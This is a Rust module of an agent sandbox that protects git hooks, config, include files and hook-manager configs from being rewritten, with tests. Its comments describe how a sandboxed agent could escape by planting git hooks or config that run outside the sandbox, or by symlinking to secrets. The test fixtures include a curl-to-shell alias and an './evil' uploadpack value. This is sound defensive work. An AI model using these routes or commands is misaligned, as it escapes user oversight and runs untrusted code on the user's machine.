//! What of a repository's git directory must stay read-only inside the sandbox.
//!
//! git runs hooks and commands named in its config (`core.hooksPath`, `core.fsmonitor`,
//! `core.sshCommand`, aliases, filter drivers) when the user next types `git` outside the
//! sandbox. An agent that could write them could plant code that runs unsandboxed; objects,
//! refs, the index and logs stay writable so that `git add` and `git commit` work.

use std::fs;
use std::path::{Path, PathBuf};

use crate::context::GitDirs;
use crate::policy::{Access, PathRule, Placeholder, RuleOrigin};

pub(crate) const REASON: &str = "git hooks and config run commands outside the sandbox: read-only";

fn protect(path: &Path, placeholder: Option<Placeholder>) -> PathRule {
    let mut rule = PathRule::new(path, Access::ReadOnly, true, RuleOrigin::builtin(REASON));
    rule.placeholder = placeholder;
    rule
}

/// Rules that make a repository's executable git state read-only.
///
/// Missing hook directories are created empty first: a read-only bind needs something to
/// bind, and an absent `hooks/` would let the agent create one. The workspace's `.git`
/// folder is bound onto itself so that it is a mount point, which rename(2) refuses to move:
/// `mv .git elsewhere` cannot slip a `.git` of the agent's in its place. Pointer files that
/// do not exist at start (`commondir`, `gitdir`, `config.worktree`) are not created: that
/// would change the user's repository; the end-of-session check looks for them instead.
/// Folders named by `core.hooksPath` and config files named by `include.path` that are in
/// the workspace are read-only like `.git/hooks` (when they exist; otherwise watched).
pub fn git_protection_rules(workspace: &Path, git: &GitDirs, home: &Path) -> Vec<PathRule> {
    let mut rules = Vec::new();
    let dot_git = workspace.join(".git");
    if fs::symlink_metadata(&dot_git).is_ok_and(|m| m.is_dir()) {
        rules.push(PathRule::new(
            &dot_git,
            Access::ReadWrite,
            false,
            RuleOrigin::builtin(
                "the repository's .git: writable for commits, and a mount point that cannot \
                 be renamed or replaced",
            ),
        ));
    }
    let protect_git_dir = |dir: &Path, rules: &mut Vec<PathRule>| {
        rules.push(protect(&dir.join("hooks"), Some(Placeholder::Dir)));
        rules.push(protect(&dir.join("info"), Some(Placeholder::Dir)));
        rules.push(protect(&dir.join("config"), None));
        rules.push(protect(&dir.join("config.worktree"), None));
        // Pointers between a linked worktree and its repository.
        rules.push(protect(&dir.join("commondir"), None));
        rules.push(protect(&dir.join("gitdir"), None));
    };
    protect_git_dir(&git.common_dir, &mut rules);
    if git.git_dir != git.common_dir {
        protect_git_dir(&git.git_dir, &mut rules);
    }
    // Submodules keep their git directories under `modules/`; their hooks and config run
    // when the user works in the submodule.
    // Each is bound onto itself (a mount point, which cannot be renamed to make room for a
    // git dir of the agent's).
    for modules in [&git.common_dir, &git.git_dir] {
        if let Ok(entries) = fs::read_dir(modules.join("modules")) {
            for entry in entries.flatten() {
                if entry.file_type().is_ok_and(|t| t.is_dir()) {
                    rules.push(PathRule::new(
                        entry.path(),
                        Access::ReadWrite,
                        true,
                        RuleOrigin::builtin(
                            "a submodule's git directory: writable for commits, and a mount \
                             point that cannot be renamed or replaced",
                        ),
                    ));
                    protect_git_dir(&entry.path(), &mut rules);
                }
            }
        }
    }
    // A `.git` file (linked worktree, submodule) says where the git directory is.
    if fs::symlink_metadata(&dot_git).is_ok_and(|m| m.is_file()) {
        rules.push(protect(&dot_git, None));
    }
    let surface = GitSurface::read(workspace, git, home);
    for dir in &surface.hooks_dirs {
        if dir.starts_with(workspace) && fs::symlink_metadata(dir).is_ok_and(|m| m.is_dir()) {
            rules.push(protect_with(dir, HOOKS_PATH_REASON));
        }
        // A hook that is a link to a script of the work tree: the script is the hook.
        for target in hook_link_targets(dir) {
            if target.starts_with(workspace) && !target.starts_with(dir) {
                rules.push(protect_with(&target, HOOK_TARGET_REASON));
            }
        }
    }
    // Hook managers whose hook (read-only above) runs what a file of the work tree lists:
    // the pre-commit framework (`.pre-commit-config.yaml`: a `repo: local` hook's `entry`
    // is a command), lefthook (`lefthook.yml`: `run:` commands). Where the repository's
    // hooks are theirs, those files are read-only too.
    for file in hook_manager_files(workspace, git, &surface.hooks_dirs) {
        rules.push(protect_with(&file, HOOK_MANAGER_REASON));
    }
    for file in &surface.config_files {
        let is_file = fs::symlink_metadata(file).is_ok_and(|m| m.is_file() || m.is_symlink());
        if file.starts_with(workspace) && !is_in_git_dir(file, git) && is_file {
            rules.push(protect_with(file, INCLUDE_REASON));
        }
    }
    // A bind follows a link: one planted where a rule points (`.git/modules/x/config` ->
    // `~/.ssh/id_ed25519`) would put its target in the sandbox. Only a link to what the
    // sandbox sees anyway is bound; another is left alone (dangling inside, and watched).
    rules.retain(|r| binds_nothing_new(&r.path, workspace, git));
    rules
}

/// Whether binding `path` shows nothing the sandbox would not see anyway: it is not a link,
/// or a link to something in the workspace or the repository's git dirs.
fn binds_nothing_new(path: &Path, workspace: &Path, git: &GitDirs) -> bool {
    match fs::symlink_metadata(path) {
        Ok(meta) if meta.is_symlink() => fs::canonicalize(path).is_ok_and(|target| {
            target.starts_with(workspace)
                || target.starts_with(&git.common_dir)
                || target.starts_with(&git.git_dir)
        }),
        _ => true,
    }
}

/// Hook managers: a word their hooks carry, and the files of the work tree they run from.
const HOOK_MANAGERS: &[(&str, &[&str])] = &[
    (
        "pre-commit",
        &[".pre-commit-config.yaml", ".pre-commit-config.yml"],
    ),
    (
        "lefthook",
        &[
            "lefthook.yml",
            "lefthook.yaml",
            ".lefthook.yml",
            ".lefthook.yaml",
            "lefthook-local.yml",
            "lefthook-local.yaml",
            ".lefthook-local.yml",
            ".lefthook-local.yaml",
        ],
    ),
];

/// The files of the work tree that the repository's hook manager runs from, where its
/// hooks (in the repository's hooks folder or one of `hooks_dirs`) are a manager's.
pub fn hook_manager_files(workspace: &Path, git: &GitDirs, hooks_dirs: &[PathBuf]) -> Vec<PathBuf> {
    let default = git.common_dir.join("hooks");
    let markers: Vec<&str> = HOOK_MANAGERS.iter().map(|(marker, _)| *marker).collect();
    // Each hooks folder listed once, each hook read once, for every manager at a time.
    let mut managed = vec![false; markers.len()];
    for dir in hooks_dirs.iter().chain(std::iter::once(&default)) {
        hooks_mention(dir, &markers, &mut managed);
        if managed.iter().all(|m| *m) {
            break;
        }
    }
    HOOK_MANAGERS
        .iter()
        .zip(managed)
        .filter(|(_, managed)| *managed)
        .flat_map(|((_, files), _)| files.iter())
        .map(|name| workspace.join(name))
        .filter(|file| fs::symlink_metadata(file).is_ok_and(|m| m.is_file()))
        .collect()
}

const HOOK_MANAGER_REASON: &str =
    "the config of the hook manager the repository's git hooks run (pre-commit, lefthook): \
     its commands run outside the sandbox: read-only";

/// Which of `words` a hook file of `dir` (the first 4 KiB of at most a hundred regular
/// files) names, marked in `found`: enough to tell a hook manager's generated hook.
fn hooks_mention(dir: &Path, words: &[&str], found: &mut [bool]) {
    use std::io::Read;
    let Ok(entries) = fs::read_dir(dir) else {
        return;
    };
    for entry in entries.flatten().take(100) {
        if !entry.file_type().is_ok_and(|t| t.is_file())
            || entry.file_name().to_string_lossy().ends_with(".sample")
        {
            continue;
        }
        use std::os::unix::fs::OpenOptionsExt;
        let mut head = Vec::new();
        // Never blocks: a FIFO swapped in after the look above opens at once, and is empty.
        let read = fs::OpenOptions::new()
            .read(true)
            .custom_flags(libc::O_NONBLOCK | libc::O_NOFOLLOW)
            .open(entry.path())
            .and_then(|f| f.take(4096).read_to_end(&mut head));
        if read.is_err() {
            continue;
        }
        let text = String::from_utf8_lossy(&head);
        for (word, found) in words.iter().zip(found.iter_mut()) {
            *found |= text.contains(word);
        }
    }
}

const HOOKS_PATH_REASON: &str =
    "a folder core.hooksPath names: git runs its hooks outside the sandbox: read-only";
const HOOK_TARGET_REASON: &str =
    "a script a git hook links to: git runs it outside the sandbox: read-only";
const INCLUDE_REASON: &str =
    "a config file git includes (include.path): what it sets runs outside the sandbox: read-only";

/// Where the hooks of `dir` that are links lead (at most a hundred hooks looked at).
fn hook_link_targets(dir: &Path) -> Vec<PathBuf> {
    let Ok(entries) = fs::read_dir(dir) else {
        return Vec::new();
    };
    entries
        .flatten()
        .take(100)
        .filter(|e| e.file_type().is_ok_and(|t| t.is_symlink()))
        .filter_map(|e| fs::canonicalize(e.path()).ok())
        .collect()
}

fn protect_with(path: &Path, reason: &str) -> PathRule {
    PathRule::new(path, Access::ReadOnly, true, RuleOrigin::builtin(reason))
}

fn is_in_git_dir(path: &Path, git: &GitDirs) -> bool {
    path.starts_with(&git.git_dir) || path.starts_with(&git.common_dir)
}

/// What the user's git reads that can make it run a command, for one repository: the
/// config files (the user's own, the repository's, and those they include), and the
/// folders hooks are taken from.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct GitSurface {
    pub config_files: Vec<PathBuf>,
    pub hooks_dirs: Vec<PathBuf>,
}

/// How deep `include.path` is followed (git's own limit is 10).
const MAX_INCLUDE_DEPTH: usize = 10;

impl GitSurface {
    /// Reads the configs of the repository at `worktree` (and of the user, under `home`) to
    /// find what they include and where hooks come from. `include.path` and `includeIf`
    /// are followed whatever their condition: kennel would rather look at one file too many.
    pub fn read(worktree: &Path, git: &GitDirs, home: &Path) -> GitSurface {
        let mut surface = GitSurface::default();
        let mut queue: Vec<(PathBuf, usize)> = vec![
            (home.join(".gitconfig"), 0),
            (home.join(".config/git/config"), 0),
            (git.common_dir.join("config"), 0),
        ];
        if git.git_dir != git.common_dir {
            queue.push((git.git_dir.join("config.worktree"), 0));
        } else {
            queue.push((git.common_dir.join("config.worktree"), 0));
        }
        while let Some((file, depth)) = queue.pop() {
            if surface.config_files.contains(&file) {
                continue;
            }
            let text = read_config(&file);
            surface.config_files.push(file.clone());
            let Some(text) = text else { continue };
            for (name, value) in command_settings(&text) {
                let value = unquote(&value);
                if name == "core.hookspath" {
                    // The last one read wins in git; any of them is worth protecting.
                    if let Some(dir) = resolve_config_path(&value, worktree, home) {
                        if !surface.hooks_dirs.contains(&dir) {
                            surface.hooks_dirs.push(dir);
                        }
                    }
                } else if (name == "include.path"
                    || (name.starts_with("includeif.") && name.ends_with(".path")))
                    && depth < MAX_INCLUDE_DEPTH
                {
                    let base = file.parent().unwrap_or(Path::new("/"));
                    let target = match value.strip_prefix("~/") {
                        Some(rest) => home.join(rest),
                        None => base.join(&value),
                    };
                    queue.push((crate::paths::normalize(&target), depth + 1));
                }
            }
        }
        let default_hooks = git.common_dir.join("hooks");
        if !surface.hooks_dirs.contains(&default_hooks) {
            surface.hooks_dirs.insert(0, default_hooks);
        }
        surface
    }
}

/// A config file's text, or nothing when it is absent, not a regular file or too large to
/// be one a person wrote (what a sandbox left is never read without bound).
pub fn read_config(file: &Path) -> Option<String> {
    // git takes any bytes in a value; the names that matter are ASCII.
    let bytes = read_small(file, 1 << 20).ok()?;
    Some(String::from_utf8_lossy(&bytes).into_owned())
}

/// The bytes of a small regular file that a sandbox may have written: opened without
/// blocking (a FIFO in its place would hang kennel), checked to be a regular file once open
/// (no race with a swap), and read up to `limit` bytes (a bigger file is an error). A link
/// is followed, as git follows it.
pub fn read_small(path: &Path, limit: u64) -> std::io::Result<Vec<u8>> {
    use std::io::{Error, ErrorKind, Read};
    use std::os::unix::fs::OpenOptionsExt;
    let file = fs::OpenOptions::new()
        .read(true)
        .custom_flags(libc::O_NONBLOCK | libc::O_NOCTTY)
        .open(path)?;
    let meta = file.metadata()?;
    if !meta.is_file() {
        return Err(Error::new(ErrorKind::InvalidData, "not a regular file"));
    }
    if meta.len() > limit {
        return Err(Error::new(ErrorKind::InvalidData, "too large"));
    }
    // One read for the whole file (its size is known), one more to see the end.
    let mut bytes = Vec::with_capacity(usize::try_from(meta.len()).unwrap_or(0) + 1);
    file.take(limit).read_to_end(&mut bytes)?;
    Ok(bytes)
}

fn unquote(value: &str) -> String {
    let v = value.trim();
    v.strip_prefix('"')
        .and_then(|v| v.strip_suffix('"'))
        .unwrap_or(v)
        .to_string()
}

/// A path setting of git (`core.hooksPath`): `~/` is the home, a relative path is relative
/// to the top of the work tree where git runs hooks.
fn resolve_config_path(value: &str, worktree: &Path, home: &Path) -> Option<PathBuf> {
    if value.is_empty() {
        return None;
    }
    let path = match value.strip_prefix("~/") {
        Some(rest) => home.join(rest),
        None => worktree.join(value),
    };
    Some(crate::paths::normalize(&path))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Each manager is told from its own generated hook, in the repository's hooks folder
    /// or in a `core.hooksPath` folder; a sample hook, or a manager with no hook, tells
    /// nothing; only the manager's files that exist are named.
    #[test]
    fn hook_managers_are_told_from_their_hooks() {
        let dir = tempfile::tempdir().unwrap();
        let w = dir.path();
        let git = GitDirs {
            git_dir: w.join(".git"),
            common_dir: w.join(".git"),
        };
        fs::create_dir_all(w.join(".git/hooks")).unwrap();
        fs::create_dir_all(w.join(".husky")).unwrap();
        for file in [".pre-commit-config.yaml", "lefthook.yml", ".lefthook.yaml"] {
            fs::write(w.join(file), "x").unwrap();
        }
        let found = |dirs: &[PathBuf]| -> Vec<String> {
            let mut names: Vec<String> = hook_manager_files(w, &git, dirs)
                .iter()
                .map(|p| p.strip_prefix(w).unwrap().display().to_string())
                .collect();
            names.sort();
            names
        };
        fs::write(
            w.join(".git/hooks/pre-commit.sample"),
            "lefthook pre-commit",
        )
        .unwrap();
        assert!(found(&[]).is_empty());
        fs::write(
            w.join(".git/hooks/pre-commit"),
            "# File generated by pre-commit",
        )
        .unwrap();
        assert_eq!(found(&[]), [".pre-commit-config.yaml"]);
        fs::write(w.join(".husky/pre-push"), "call lefthook run pre-push").unwrap();
        assert_eq!(found(&[]), [".pre-commit-config.yaml"]);
        assert_eq!(
            found(&[w.join(".husky")]),
            [".lefthook.yaml", ".pre-commit-config.yaml", "lefthook.yml"]
        );
    }

    #[test]
    fn hooks_and_config_are_read_only_and_objects_are_not_covered() {
        let git = GitDirs {
            git_dir: "/w/.git".into(),
            common_dir: "/w/.git".into(),
        };
        let rules = git_protection_rules(
            Path::new("/nonexistent-w"),
            &git,
            Path::new("/nonexistent-h"),
        );
        let paths: Vec<_> = rules.iter().map(|r| r.path.clone()).collect();
        assert!(paths.contains(&"/w/.git/hooks".into()));
        assert!(paths.contains(&"/w/.git/config".into()));
        assert!(!paths
            .iter()
            .any(|p| p.ends_with("objects") || p.ends_with("refs")));
        assert!(rules.iter().all(|r| r.access == Access::ReadOnly));
        let hooks = rules.iter().find(|r| r.path.ends_with("hooks"));
        assert_eq!(hooks.and_then(|r| r.placeholder), Some(Placeholder::Dir));
    }

    /// A link planted where a rule points is not bound when it leads out of what the
    /// sandbox sees: `.git/modules/x/config` -> a secret would show the secret.
    #[test]
    fn a_planted_link_to_a_secret_is_not_bound() {
        let dir = tempfile::tempdir().unwrap_or_else(|e| unreachable!("{e}"));
        let base = fs::canonicalize(dir.path()).unwrap_or_else(|e| unreachable!("{e}"));
        let w = base.join("w");
        let secret = base.join("secret");
        fs::create_dir_all(w.join(".git/modules/x")).unwrap_or_else(|e| unreachable!("{e}"));
        fs::write(&secret, "key").unwrap_or_else(|e| unreachable!("{e}"));
        std::os::unix::fs::symlink(&secret, w.join(".git/modules/x/config"))
            .unwrap_or_else(|e| unreachable!("{e}"));
        std::os::unix::fs::symlink(w.join("README"), w.join(".git/config"))
            .unwrap_or_else(|e| unreachable!("{e}"));
        fs::write(w.join("README"), "x").unwrap_or_else(|e| unreachable!("{e}"));
        let git = GitDirs {
            git_dir: w.join(".git"),
            common_dir: w.join(".git"),
        };
        let rules = git_protection_rules(&w, &git, Path::new("/nonexistent-h"));
        let paths: Vec<_> = rules.iter().map(|r| r.path.clone()).collect();
        assert!(
            !paths.contains(&w.join(".git/modules/x/config")),
            "{paths:?}"
        );
        // A link inside the workspace is bound: its target is protected.
        assert!(paths.contains(&w.join(".git/config")), "{paths:?}");
    }

    #[test]
    fn linked_worktree_protects_both_git_dirs() {
        let git = GitDirs {
            git_dir: "/m/.git/worktrees/wt".into(),
            common_dir: "/m/.git".into(),
        };
        let rules = git_protection_rules(
            Path::new("/nonexistent-wt"),
            &git,
            Path::new("/nonexistent-h"),
        );
        let paths: Vec<_> = rules.iter().map(|r| r.path.clone()).collect();
        assert!(paths.contains(&"/m/.git/hooks".into()));
        assert!(paths.contains(&"/m/.git/worktrees/wt/config.worktree".into()));
        assert!(paths.contains(&"/m/.git/worktrees/wt/gitdir".into()));
    }
}

/// A setting or hook of the repository that runs a command when the user's own git runs.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct GitRunsCommand {
    /// The file it is in.
    pub file: PathBuf,
    /// `core.fsmonitor`, `alias.x`, `filter.lfs.process`, `hook pre-commit`, ...
    pub what: String,
    /// The configured value (empty for hooks).
    pub value: String,
}

/// Keys (section, key) whose value git runs as a command; `*` matches any subsection.
const COMMAND_KEYS: &[(&str, &str)] = &[
    ("core", "hookspath"),
    ("core", "fsmonitor"),
    ("core", "sshcommand"),
    ("core", "editor"),
    ("core", "pager"),
    ("core", "askpass"),
    ("sequence", "editor"),
    ("diff.*", "textconv"),
    ("diff.*", "command"),
    ("filter.*", "clean"),
    ("filter.*", "smudge"),
    ("filter.*", "process"),
    ("merge.*", "driver"),
    ("credential", "helper"),
    ("credential.*", "helper"),
    ("gpg", "program"),
    ("gpg.*", "program"),
    ("gpg.ssh", "defaultkeycommand"),
    ("include", "path"),
    ("includeif.*", "path"),
    ("core", "gitproxy"),
    ("core", "alternaterefscommand"),
    ("diff", "external"),
    ("difftool.*", "cmd"),
    ("mergetool.*", "cmd"),
    ("interactive", "difffilter"),
    ("remote.*", "uploadpack"),
    ("remote.*", "receivepack"),
    ("uploadpack", "packobjectshook"),
    // Hooks defined in config (git 2.46 and later).
    ("hook.*", "command"),
    ("browser.*", "cmd"),
    ("man.*", "cmd"),
    ("sendemail", "sendmailcmd"),
    ("sendemail", "tocmd"),
    ("sendemail", "cccmd"),
    // Lets `ext::` URLs (which run a command) through.
    ("protocol", "allow"),
    ("protocol.*", "allow"),
];

/// What the repository's config and hooks will run when the user next types `git`
/// outside the sandbox: kennel tells the user at launch. The repository's configs and what
/// they include (a file in the work tree too), the hooks folders (`core.hooksPath` too), and
/// the same for each submodule whose git directory is in `modules/`.
pub fn git_runs_commands(workspace: &Path, git: &GitDirs, home: &Path) -> Vec<GitRunsCommand> {
    let mut found = Vec::new();
    let surface = GitSurface::read(workspace, git, home);
    let own = |f: &Path| f.starts_with(workspace) || is_in_git_dir(f, git);
    for file in surface.config_files.iter().filter(|f| own(f)) {
        config_commands(file, &mut found);
    }
    for dir in &surface.hooks_dirs {
        hooks_in(dir, &mut found);
    }
    let mut nested = module_git_dirs(&git.common_dir);
    // Submodules whose git directory is in their own folder (`git submodule` of old, or a
    // repository added by hand), as `.gitmodules` lists them. A gitlink staged without an
    // entry there is not looked for at start (that would mean reading the whole index):
    // the end-of-session check catches one a session adds.
    for path in gitmodules_paths(&workspace.join(".gitmodules")) {
        let dot_git = crate::paths::normalize(&workspace.join(path).join(".git"));
        if dot_git.starts_with(workspace)
            && fs::symlink_metadata(&dot_git).is_ok_and(|m| m.is_dir())
            && !nested.contains(&dot_git)
        {
            nested.push(dot_git);
        }
    }
    for dir in nested {
        config_commands(&dir.join("config"), &mut found);
        hooks_in(&dir.join("hooks"), &mut found);
    }
    found
}

/// The `path = ...` values of a `.gitmodules` file (relative to the work tree).
fn gitmodules_paths(file: &Path) -> Vec<PathBuf> {
    let Some(text) = read_config(file) else {
        return Vec::new();
    };
    text.lines()
        .filter_map(|line| {
            let (key, value) = line.split_once('=')?;
            (key.trim().eq_ignore_ascii_case("path")).then(|| PathBuf::from(unquote(value)))
        })
        .filter(|p| p.is_relative())
        .take(1000)
        .collect()
}

/// The git dirs of the submodules of a repository (and theirs), at most a few levels deep.
pub fn module_git_dirs(common_dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let mut queue = vec![(common_dir.join("modules"), 0)];
    while let Some((dir, depth)) = queue.pop() {
        let Ok(entries) = fs::read_dir(&dir) else {
            continue;
        };
        for entry in entries.flatten() {
            if !entry.file_type().is_ok_and(|t| t.is_dir()) || out.len() >= 1000 {
                continue;
            }
            let path = entry.path();
            if path.join("HEAD").exists() {
                if depth < 8 {
                    queue.push((path.join("modules"), depth + 1));
                }
                out.push(path);
            } else if depth < 8 {
                // A submodule named `a/b` lives at `modules/a/b`.
                queue.push((path, depth + 1));
            }
        }
    }
    out.sort();
    out
}

fn config_commands(file: &Path, found: &mut Vec<GitRunsCommand>) {
    if let Some(text) = read_config(file) {
        for (what, value) in command_settings(&text) {
            found.push(GitRunsCommand {
                file: file.to_path_buf(),
                what,
                value,
            });
        }
    }
}

/// Hooks git would run from `dir`: every entry but git's own `*.sample` files.
pub fn hooks_in(dir: &Path, found: &mut Vec<GitRunsCommand>) {
    let Ok(entries) = fs::read_dir(dir) else {
        return;
    };
    let mut names: Vec<std::ffi::OsString> = entries
        .flatten()
        .map(|e| e.file_name())
        .filter(|n| !n.as_encoded_bytes().ends_with(b".sample"))
        .collect();
    names.sort();
    for name in names.into_iter().take(100) {
        found.push(GitRunsCommand {
            file: dir.join(&name),
            what: format!("hook {}", crate::shown_bytes(name.as_encoded_bytes())),
            value: String::new(),
        });
    }
}

/// Settings of a git config text that run commands: `(section.key, value)`, read as git
/// reads the file ([`crate::git_config`]).
pub fn command_settings(text: &str) -> Vec<(String, String)> {
    crate::git_config::entries(text)
        .into_iter()
        .filter(runs_a_command)
        .map(|e| (e.name(), e.value))
        .collect()
}

fn runs_a_command(e: &crate::git_config::Entry) -> bool {
    let (section, key, value) = (e.section.as_str(), e.key.as_str(), e.value.as_str());
    COMMAND_KEYS.iter().any(|(sec, k)| {
        *k == key
            && match sec.strip_suffix(".*") {
                Some(s) => s == section && e.subsection.is_some(),
                None => *sec == section && e.subsection.is_none(),
            }
    }) || (section == "alias" && value.starts_with('!'))
        // `submodule.NAME.update = !command` (honoured from .git/config only).
        || (section == "submodule" && key == "update" && value.starts_with('!'))
        // `pager.log = less -R`: a pager for one command, unless just turned on or off.
        || (section == "pager"
            && e.subsection.is_none()
            && !matches!(
                value.to_ascii_lowercase().as_str(),
                "true" | "false" | "yes" | "no" | "on" | "off" | "1" | "0" | ""
            ))
}

#[cfg(test)]
mod config_tests {
    use super::*;

    #[test]
    fn finds_settings_that_run_commands() {
        let text = r#"
[core]
	repositoryformatversion = 0
	fsmonitor = ./watch.sh
	hooksPath = /tmp/hooks
[alias]
	st = status
	boom = "!curl example.org | sh"
[filter "lfs"]
	process = git-lfs filter-process
[remote "origin"]
	url = x
[include]
	path = ../other.config
"#;
        let found: Vec<String> = command_settings(text).into_iter().map(|(k, _)| k).collect();
        assert_eq!(
            found,
            vec![
                "core.fsmonitor",
                "core.hookspath",
                "alias.boom",
                "filter.lfs.process",
                "include.path"
            ]
        );
    }

    #[test]
    fn other_settings_that_run_commands_are_found() {
        let text = "[remote \"o\"]\n\turl = x\n\tuploadpack = ./evil\n[hook \"lint\"]\n\tcommand = ./lint\n\tevent = pre-commit\n[pager]\n\tlog = ./p\n\tdiff = false\n[diff]\n\texternal = ./d\n[gpg \"ssh\"]\n\tprogram = ./s\n[submodule \"m\"]\n\tupdate = !./u\n\tactive = true\n[protocol \"ext\"]\n\tallow = always\n";
        let found: Vec<String> = command_settings(text).into_iter().map(|(k, _)| k).collect();
        assert_eq!(
            found,
            vec![
                "remote.o.uploadpack",
                "hook.lint.command",
                "pager.log",
                "diff.external",
                "gpg.ssh.program",
                "submodule.m.update",
                "protocol.ext.allow"
            ]
        );
    }

    #[test]
    fn plain_config_runs_nothing() {
        let text = "[core]\n\tbare = false\n[user]\n\tname = x\n[alias]\n\tco = checkout\n";
        assert!(command_settings(text).is_empty());
    }
}
